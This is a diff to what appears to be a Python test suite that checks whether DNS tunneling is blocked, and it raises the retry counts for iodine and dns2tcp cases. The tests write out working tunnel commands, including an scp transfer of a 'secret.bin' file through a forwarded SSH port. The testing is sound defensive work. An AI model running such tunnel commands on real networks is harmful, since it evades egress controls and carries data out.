@@ -16,7 +16,7 @@ def iodine(place: Place) -> None:
     place.begins()
     place.start("office", ["iodine", "-f", "-r", "-P", "secret", RESOLVER, TUNNEL])
     place.fails("office", ["sh", "-c", "for k in $(seq 100); do ip -o address | grep -q 10.9.0 && break; sleep 0.2; done; sleep 2; "
-                           "for k in 1 2 3; do curl -s -m 20 -o /dev/null http://10.9.0.1/picture.bin; done"], 80)
+                           "for k in $(seq 10); do curl -s -m 20 -o /dev/null http://10.9.0.1/picture.bin; sleep 2; done"], 80)
 
 
 def dns2tcp(place: Place) -> None:
@@ -29,7 +29,8 @@ def dns2tcp(place: Place) -> None:
     (place.folder / "secret.bin").write_bytes(bytes(range(256)) * 200)
     place.begins()
     place.start("office", ["dns2tcpc", "-z", TUNNEL, "-r", "ssh", "-l", "2222", RESOLVER], tcp=2222)
-    place.fails("office", ["scp", "-P", "2222", *options, place.folder / "secret.bin", f"root@127.0.0.1:{place.folder}/out.bin"], 60)
+    for one in range(4):
+        place.fails("office", ["scp", "-P", "2222", *options, place.folder / "secret.bin", f"root@127.0.0.1:{place.folder}/out{one}.bin"], 30)
 
 
 def spelled(place: Place) -> None:
